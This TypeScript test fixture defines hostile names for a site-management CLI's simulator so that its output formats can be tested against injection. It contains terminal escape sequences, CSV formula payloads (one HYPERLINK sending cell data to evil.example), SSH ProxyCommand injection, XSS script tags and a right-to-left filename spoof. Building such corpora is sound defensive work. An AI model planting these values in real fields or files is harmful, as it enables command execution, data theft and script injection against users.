/**
 * Names a client, a contractor or a compromised account could give sites and environments, one for
 * each way text from the service has hurt a tool like this one. `sitefleet sim --names hostile`
 * serves them (sites, staging environments, SSH fields, backups, API keys, failure messages), and the
 * tests run every command and output format against them.
 */
/** `sim --names`: plain names (acme-001, live, staging), or the corpus below. */
export const FLEET_NAMES = ['plain', 'hostile'] as const;
export type FleetNames = (typeof FLEET_NAMES)[number];

export const HOSTILE_NAMES: readonly string[] = [
  // Retitles the terminal, clears the screen, and paints the rest of the output red.
  '\u001b]0;pwned\u0007\u001b[2J\u001b[31mtitle',
  // Spreadsheet formulas (OWASP "CSV injection").
  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  // A line break and a directive: an SSH config line, a forged log or summary line.
  'shop\nProxyCommand touch /tmp/sitefleet-pwned',
  // Characters XML 1.0 forbids even escaped, and a DEL.
  'bell\u0007null\u0000vt\u000bdel\u007f',
  // Closes a Markdown table cell, opens a link and an image, injects a tag.
  'pipe|cell [x](http://evil.example) ![i](http://evil.example/i.png) <b>tag</b>',
  // Right-to-left override: reads "shop-gpj.exe" as "shop-exe.jpg".
  'shop-\u202egpj.exe',
  // An 8-bit CSI (C1) and a line separator.
  '\u009b31mc1\u2028sep',
  // A GitHub Actions workflow command at the start of a line.
  '::error::forged annotation',
  // Encoded line breaks and quotes of every kind.
  `%0A%25 "double" 'single' & <amp>`,
  // A tab and a carriage return (a CSV cell starting with either is a formula too).
  '\tcr\rreturn',
  // Very long.
  `long-${'x'.repeat(2000)}`,
  // A page's markup: an image whose error runs script, and a name that closes the title and opens a script.
  '<img src=x onerror="window.__pwned=1">',
  '</title><script>window.__pwned=1</script><style>*{display:none}</style>',
  // An attribute's end, a new attribute and a link that would leave the page.
  '" style="background:url(http://evil.example/x.png)" x="',
];

/**
 * An SSH config answer a proxy or a hostile site could give: a host that smuggles a directive, a port
 * that is not a number. The user field is hostile already, as it is built from the names.
 */
export const HOSTILE_SSH = {
  host: 'ssh.example\n  ProxyCommand sh -c "touch /tmp/sitefleet-pwned"',
  port: '22 -oProxyCommand=touch',
} as const;

/** The corpus name for index `i`, unique past the corpus's length (the suffix leaves the start, which matters most, alone). */
export function hostileName(i: number): string {
  const name = HOSTILE_NAMES[i % HOSTILE_NAMES.length]!;
  return i < HOSTILE_NAMES.length ? name : `${name} #${Math.floor(i / HOSTILE_NAMES.length) + 1}`;
}
